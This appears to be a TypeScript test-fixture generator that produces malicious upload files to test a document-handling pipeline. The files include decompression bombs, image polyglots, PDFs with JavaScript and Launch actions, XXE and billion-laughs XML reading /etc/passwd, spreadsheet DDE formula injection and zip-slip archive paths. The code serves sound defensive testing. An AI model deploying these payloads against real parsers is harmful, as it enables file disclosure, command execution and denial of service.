/** Hostile files, made and never kept: pictures, PDF, XML, sheets. The same seed, the same bytes. */
import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { zipOf } from "../src/typeset/zip.ts";
import { dice } from "../test/dice.ts";
import { onePagePdf } from "../test/one-page-pdf.ts";
import { sheetOf } from "../test/samples/zip.ts";

export interface HostileFile {
  name: string;
  kind: "picture" | "pdf" | "xml" | "sheet";
  bytes: Buffer;
  /** What it may do: be kept nowhere, or be kept once it was drawn anew. */
  may: "nothing" | "be drawn anew" | "be read";
}

/** Stands in every file where something could be hidden: whatever is kept may not hold it. */
export const MARK = "KILROY330";
/** As letters are: kept, so that what is kept can be opened. */
export const PLAIN_PDF = "pdf as it should be";
const HTML = `<html><script>document.title="${MARK}"</script></html>`;

/** `home`: an address of this machine at which nobody may ever knock. */
export async function corpus(home: string): Promise<HostileFile[]> {
  const jpeg = await aPicture("jpeg");
  const png = await aPicture("png");
  return [...pictures(jpeg, png), ...(await withMetadata()), ...pdfs(home), ...xmls(home), ...sheets(home)];
}

const aPicture = (format: "jpeg" | "png") =>
  sharp({ create: { width: 640, height: 420, channels: 3, background: "#ccd8e0" } })
    .toFormat(format)
    .toBuffer();

function pictures(jpeg: Buffer, png: Buffer): HostileFile[] {
  const file = (name: string, bytes: Buffer, may: HostileFile["may"] = "nothing"): HostileFile => ({
    ...{ name, kind: "picture", bytes, may },
  });
  const { below } = dice(330);
  const damaged = [jpeg, png].flatMap((whole, nth) =>
    Array.from({ length: 60 }, (_, at) => {
      const bytes = Buffer.from(whole);
      for (let times = 0; times < 6; times += 1) bytes[below(bytes.length)] = below(256);
      return file(`damaged ${nth} ${at}`, bytes, "be drawn anew");
    }),
  );
  const cut = [jpeg, png].flatMap((whole, nth) =>
    Array.from({ length: 25 }, (_, at) =>
      file(`cut ${nth} ${at}`, whole.subarray(0, Math.floor((whole.length * at) / 25)), "be drawn anew"),
    ),
  );
  const sides = [0, 1, 2 ** 15, 50_000, 2 ** 31 - 1, 2 ** 32 - 1];
  const huge = sides.flatMap((width) =>
    sides.map((height) => {
      const bytes = Buffer.from(png);
      bytes.writeUInt32BE(width, 16);
      bytes.writeUInt32BE(height, 20);
      return file(`png of ${width} × ${height}`, bytes);
    }),
  );
  const behind = [
    HTML,
    zipOf({ "../../../etc/x": MARK }).toString("latin1"),
    `%PDF-1.7 /JS (${MARK})\n%%EOF`,
    `<?php ${MARK} ?>`,
  ];
  const polyglots = [jpeg, png].flatMap((whole, nth) =>
    behind.flatMap((text, at) => [
      file(`polyglot behind ${nth} ${at}`, Buffer.concat([whole, Buffer.from(text, "latin1")]), "be drawn anew"),
      file(`polyglot before ${nth} ${at}`, Buffer.concat([Buffer.from(text, "latin1"), whole])),
    ]),
  );
  const others = [
    ...[
      "GIF89a",
      "BM",
      "II*\0",
      "MM\0*",
      "RIFF\0\0\0\0WEBPVP8 ",
      "\0\0\0\x18ftypheic",
      "8BPS",
      "#!/bin/sh\n",
      "MZ",
      "\x7fELF",
      "PK\x03\x04",
    ].map((head) => `${head}${MARK}`),
    `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${MARK}')"/>`,
    HTML,
    "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    "",
  ].map((text, nth) => file(`another kind ${nth}`, Buffer.from(text, "latin1")));
  return [...damaged, ...cut, ...huge, ...polyglots, ...others, file("png bomb", pngBomb())];
}

/** Sides that are allowed, and rows that unpack to a thousand times the file. */
function pngBomb(): Buffer {
  const chunk = (name: string, body: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(body.length);
    return Buffer.concat([length, Buffer.from(name, "latin1"), body, Buffer.alloc(4)]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(6000, 0);
  head.writeUInt32BE(6000, 4);
  head.set([8, 6], 8);
  const rows = deflateSync(Buffer.alloc(60_000_000), { level: 9 });
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]);
  return Buffer.concat([signature, chunk("IHDR", head), chunk("IDAT", rows), chunk("IEND", Buffer.alloc(0))]);
}

/** Pictures that say where they were taken, and by whom. */
async function withMetadata(): Promise<HostileFile[]> {
  const place = {
    IFD0: { Copyright: MARK, Artist: MARK },
    IFD3: { GPSLatitudeRef: "N", GPSLatitude: "13/1 46/1 0/1" },
  };
  return Promise.all(
    Array.from({ length: 20 }, async (_, nth): Promise<HostileFile> => {
      const drawn = sharp({ create: { width: 400 + nth * 20, height: 330 + nth, channels: 3, background: "#fff" } });
      const bytes = await drawn
        .withExif(place)
        .toFormat(nth % 2 ? "png" : "jpeg")
        .toBuffer();
      return { name: `with a place ${nth}`, kind: "picture", bytes, may: "be drawn anew" };
    }),
  );
}

function pdfs(home: string): HostileFile[] {
  const programs = [
    `/S /JavaScript /JS (app.alert("${MARK}"))`,
    `/S /J#61vaScript /#4aS (app.alert("${MARK}"))`,
    "/S /Launch /F (cmd.exe)",
    `/S /SubmitForm /F (${home})`,
    `/S /ImportData /F (${home})`,
    "/Type /EmbeddedFile",
    "/Names << /EmbeddedFiles 3 0 R >>",
    "/Subtype /RichMedia",
    "/XFA [(template) 4 0 R]",
    "/S /#4Caunch /F (x)",
  ];
  const holders: ((program: string) => string)[] = [
    (program) => `1 0 obj << /OpenAction << ${program} >> >> endobj`,
    (program) => `1 0 obj << /AA << /O << ${program} >> >> >> endobj`,
    (program) => packedPart(`<< ${program} >>`),
    (program) => `${"%x\n".repeat(500)}2 0 obj << ${program} >> endobj`,
    (program) => `1 0 obj << /Annots [ << /A << ${program} >> >> ] >> endobj`,
  ];
  const file = (name: string, text: string, may: HostileFile["may"] = "nothing"): HostileFile => ({
    ...{ name, kind: "pdf", bytes: Buffer.from(text, "latin1"), may },
  });
  return [
    file(PLAIN_PDF, onePagePdf().toString("latin1"), "be read"),
    ...programs.flatMap((program, nth) =>
      holders.map((hold, at) => file(`pdf program ${nth} ${at}`, `%PDF-1.7\n${hold(program)}\n%%EOF`)),
    ),
    file("pdf that packs a bomb", `%PDF-1.7\n${packedPart("x".repeat(30_000_000))}\n%%EOF`),
    file("pdf that packs nonsense", `%PDF-1.7\n1 0 obj << /Type /ObjStm >> stream\nzzzz\nendstream\n%%EOF`),
    ...Array.from({ length: 20 }, (_, at) =>
      file(`pdf cut ${at}`, `%PDF-1.7\n${"1 0 obj << >> endobj\n".repeat(at * 9)}`),
    ),
    ...Array.from({ length: 10 }, (_, at) => file(`html as pdf ${at}`, `${" ".repeat(at)}${HTML}%PDF-1.7\n%%EOF`)),
  ];
}

const packedPart = (text: string) =>
  `1 0 obj << /Type /ObjStm /N 1 /Filter /FlateDecode >> stream\n${deflateSync(text).toString("latin1")}\nendstream endobj`;

function xmls(home: string): HostileFile[] {
  const bodies = ["<GIAMDINHHS>&a;</GIAMDINHHS>", "<HSCHUNGTU>&a;</HSCHUNGTU>", "<x>&a;</x>"];
  const types = [
    `<!ENTITY a SYSTEM "${home}/secret">`,
    '<!ENTITY a SYSTEM "file:///etc/passwd">',
    `<!ENTITY % p SYSTEM "${home}/dtd"> %p;`,
    `<!ENTITY a PUBLIC "x" "${home}/public">`,
    Array.from({ length: 12 }, (_, nth) => `<!ENTITY e${nth} "${`&e${nth + 1};`.repeat(10)}">`).join("") +
      '<!ENTITY e12 "x"><!ENTITY a "&e0;">',
    `<!ENTITY a "${"x".repeat(300_000)}">`,
  ];
  const plain = [
    `<?xml-stylesheet href="${home}/x.xsl"?><GIAMDINHHS/>`,
    `<GIAMDINHHS xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${home}/x"/></GIAMDINHHS>`,
    `<GIAMDINHHS xmlns:xsi="x" xsi:schemaLocation="x ${home}/x.xsd"/>`,
    `<a>${"<a>".repeat(60_000)}`,
    `<a ${Array.from({ length: 5000 }, (_, nth) => `b${nth}="1"`).join(" ")}/>`,
    `<GIAMDINHHS>${"&#0;".repeat(100)}</GIAMDINHHS>`,
    `<GIAMDINHHS><![CDATA[${"]]".repeat(50_000)}`,
  ];
  const doctypes = types.flatMap((type) => bodies.map((body) => `<?xml version="1.0"?><!DOCTYPE x [${type}]>${body}`));
  const encoded = doctypes.map((text) => Buffer.from(`\ufeff${text}`, "utf16le"));
  return [...doctypes, ...plain, ...encoded].map((body, nth) => ({
    ...{ name: `xml ${nth}`, kind: "xml", bytes: Buffer.from(body), may: "be read" },
  }));
}

function sheets(home: string): HostileFile[] {
  const file = (name: string, bytes: Buffer): HostileFile => ({ ...{ name, kind: "sheet", bytes, may: "be read" } });
  const row = (cell: string) =>
    `<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${cell}</t></is></c></row></sheetData></worksheet>`;
  const formulas = [
    "=cmd|'/C calc'!A0",
    `=HYPERLINK("${home}")`,
    `=WEBSERVICE("${home}")`,
    "@SUM(1)",
    "+1+1",
    "-2+3",
    "\t=1",
  ];
  const slips = [
    "../../../../tmp/x",
    "/etc/cron.d/x",
    "C:\\windows\\x",
    "xl/../../../x",
    "xl/worksheets/../../../../x",
  ];
  const parts: [string, Record<string, string | Buffer>][] = [
    ...slips.map((name): [string, Record<string, string>] => [`zip slip ${name}`, { [name]: MARK }]),
    ["macros", { "xl/vbaProject.bin": Buffer.from(`Attribut${MARK}`), "xl/macrosheets/sheet1.xml": "<x/>" }],
    ["a link outside", { "xl/externalLinks/externalLink1.xml": `<externalLink href="${home}"/>` }],
    ["many parts", Object.fromEntries(Array.from({ length: 3000 }, (_, nth) => [`xl/x${nth}.xml`, "<x/>"]))],
    ["a part that is a bomb", { "xl/sharedStrings.xml": `<sst>${"<si><t>x</t></si>".repeat(1_500_000)}</sst>` }],
    [
      "an entity",
      { "xl/sharedStrings.xml": `<!DOCTYPE s [<!ENTITY a SYSTEM "${home}/x">]><sst><si><t>&a;</t></si></sst>` },
    ],
  ];
  const bomb = sheetOf(
    `<worksheet><sheetData>${'<row><c t="inlineStr"><is><t>x</t></is></c></row>'.repeat(800_000)}</sheetData></worksheet>`,
  );
  const whole = sheetOf(row("Họ và tên"));
  return [
    ...formulas.map((formula, nth) => file(`formula ${nth}`, sheetOf(row(formula.replaceAll('"', "&quot;"))))),
    ...parts.map(([name, more]) => file(name, sheetOf(row("Họ và tên"), more))),
    ...Array.from({ length: 60 }, (_, at) =>
      file(`sheet cut ${at}`, whole.subarray(0, Math.floor((whole.length * at) / 60))),
    ),
    ...Array.from({ length: 60 }, (_, at) => {
      const bytes = Buffer.from(whole);
      const place = Math.floor((bytes.length * at) / 60);
      bytes[place] = 255 - (bytes[place] ?? 0);
      return file(`sheet damaged ${at}`, bytes);
    }),
    file("a sheet that is a bomb", bomb),
    file(
      "a list of formulas",
      Buffer.from(`Họ và tên,Số CCCD\n${formulas.map((one) => `"${one.replaceAll('"', '""')}",1`).join("\n")}\n`),
    ),
    file("a cell without end", Buffer.from(`Họ và tên\n"${"x".repeat(3_000_000)}`)),
  ];
}
